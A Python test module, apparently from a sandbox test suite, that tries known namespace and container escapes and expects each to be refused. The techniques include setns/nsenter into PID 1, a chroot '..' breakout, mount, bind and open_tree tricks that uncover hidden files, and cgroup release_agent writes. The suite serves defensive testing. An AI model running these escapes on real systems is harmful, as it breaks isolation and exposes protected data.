"""Ways out of the namespaces, and into ones of its own, where much more would be allowed."""
# SPDX-License-Identifier: LGPL-2.1-or-later

import ctypes
import errno
import os
import subprocess
import tempfile

from .kernel_calls import AT_FDCWD, CLONE_NEW, came_through, syscall
from .programs import program
from .table import Refused, attack, each

MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
OPEN_TREE_CLONE = 1


@each(CLONE_NEW, denied="unshare")
def unshare(_, flag):
    """A namespace of its own by unshare(2)"""
    return syscall("unshare", flag)


@each({"mount": "mnt", "network": "net", "ipc": "ipc", "uts": "uts", "pid": "pid"})
def join_init(_, kind):
    """setns(2) into a namespace of PID 1"""
    fd = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
    return syscall("setns", fd, 0)


@attack(denied="setns")
def join_its_own_namespace(_):
    """setns(2) into the namespace that it is in: the right would be enough for others"""
    return syscall("setns", os.open("/proc/self/ns/uts", os.O_RDONLY), 0)


@attack(denied="setns")
def join_by_pidfd(_):
    """setns(2) into all namespaces of PID 1 at once, by its pidfd"""
    return syscall("setns", os.pidfd_open(1), CLONE_NEW["uts"] | CLONE_NEW["mount"])


@attack()
def nsenter_init(target):
    """nsenter into the mounts of PID 1 reads what is hidden"""
    done = subprocess.run(["/usr/bin/nsenter", "-t", "1", "-m", "cat", target.secret],
                          capture_output=True, text=True, check=False)
    if target.word not in done.stdout:
        raise Refused(done.stderr)
    return done.stdout


@attack(denied="unshare")
def become_root_by_unshare(_):
    """unshare -Ur: root in a user namespace, with all capabilities there"""
    done = subprocess.run(["/usr/bin/unshare", "-Ur", "grep", "CapEff", "/proc/self/status"],
                          capture_output=True, text=True, check=False)
    if "1ff" not in done.stdout:
        raise Refused(done.stderr)
    return done.stdout


@each({kind: flag for kind, flag in CLONE_NEW.items() if kind != "time"}, denied="clone")
def clone(_, flag):
    """A namespace of its own by clone(2)'s flags"""
    return program("spawn", "clone", str(flag))


@attack(denied="clone")
def clone_with_high_bits(_):
    """clone(2) with the flag, and bits set over it that the kernel may not look at"""
    return program("spawn", "clone", str(CLONE_NEW["user"] | 1 << 45))


@each(CLONE_NEW)
def clone3(_, flag):
    """A namespace of its own by clone3(2), whose flags a filter cannot see"""
    return program("spawn", "clone3", str(flag))


@attack()
def root_of_init(target):
    """The file system as PID 1 sees it"""
    with open(f"/proc/1/root{target.secret}", encoding="utf-8") as file:
        return file.read()


@attack(denied="chroot")
def break_out_of_a_chroot(_):
    """chroot(2) below the working directory, then up by "..": past the root that was given"""
    below = tempfile.mkdtemp()
    here = os.open("/", os.O_RDONLY)
    syscall("chroot", below.encode())
    os.fchdir(here)
    return os.listdir(".")


@attack(denied="pivot_root")
def pivot_root(_):
    """Another root for all"""
    return came_through("pivot_root", b"/", b"/", beyond={errno.EBUSY, errno.EINVAL})


def _mount(source, path, kind, flags):
    return syscall("mount", source, path.encode(), kind, flags, None)


@attack(denied="mount")
def mount_tmpfs(_):
    """Mounts over a folder that programs trust"""
    return _mount(b"none", "/opt", b"tmpfs", 0)


@attack(denied="mount")
def mount_proc_again(_):
    """A new /proc, in which all is writable again"""
    below = tempfile.mkdtemp()
    _mount(b"proc", below, b"proc", 0)
    return os.close(os.open(f"{below}/sys/kernel/domainname", os.O_WRONLY))


@attack(denied="mount")
def bind_the_hidden_elsewhere(target):
    """Binds the folder that holds the hidden one, without what covers it, to another place"""
    below = tempfile.mkdtemp()
    _mount(target.folder.encode(), below, None, MS_BIND)
    with open(f"{below}/hidden/secret", encoding="utf-8") as file:
        return file.read()


@attack(denied="mount")
def remount_writable(target):
    """Makes what is read-only writable again"""
    return came_through("mount", None, target.open.encode(), None, MS_REMOUNT | MS_BIND, None,
                        beyond={errno.EINVAL})


@attack(denied="umount2")
def uncover_the_hidden(target):
    """Unmounts what covers the hidden folder"""
    return came_through("umount2", target.hidden.encode(), MNT_DETACH, beyond={errno.EINVAL})


@attack(denied="mount_setattr")
def mount_setattr_writable(_):
    """Takes the read-only flag off by the new way to set a mount's flags"""
    attributes = (ctypes.c_uint64 * 4)(0, 1, 0, 0)
    return syscall("mount_setattr", AT_FDCWD, b"/", 0, attributes, ctypes.sizeof(attributes))


@attack(denied="open_tree")
def open_tree_copy(target):
    """A detached copy of a mount, in which nothing is covered"""
    tree = syscall("open_tree", AT_FDCWD, target.folder.encode(), OPEN_TREE_CLONE)
    with open(f"/proc/self/fd/{tree}/hidden/secret", encoding="utf-8") as file:
        return file.read()


@attack(denied="fsopen")
def fsopen_tmpfs(_):
    """A file system without mount(2)"""
    return syscall("fsopen", b"tmpfs", 0)


@attack(granted=["vfio", "storage", "tune"])
def leave_its_cgroup(_):
    """Writes itself into the root of a cgroup hierarchy"""
    for place in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs",
                  "/sys/fs/cgroup/cgroup.procs"):
        if os.path.exists(place):
            with open(place, "w", encoding="ascii") as procs:
                procs.write(str(os.getpid()))
            return place
    raise Refused("no cgroups to be seen")


@attack(granted=["vfio", "storage"])
def cgroup_release_agent(_):
    """The program that the kernel runs as root when a cgroup empties: writes what is there"""
    for place, folders, _ in os.walk("/sys/fs/cgroup"):
        if "release_agent" in os.listdir(place):
            with open(f"{place}/release_agent", "r+", encoding="ascii") as agent:
                return agent.write(agent.read() or "\n")
        folders[:] = folders if place == "/sys/fs/cgroup" else []
    raise Refused("no release_agent to be seen")


@attack()
def change_the_host_s_name(_):
    """sethostname(2), to the name that it has already"""
    name = os.uname().nodename.encode()
    return syscall("sethostname", name, len(name))
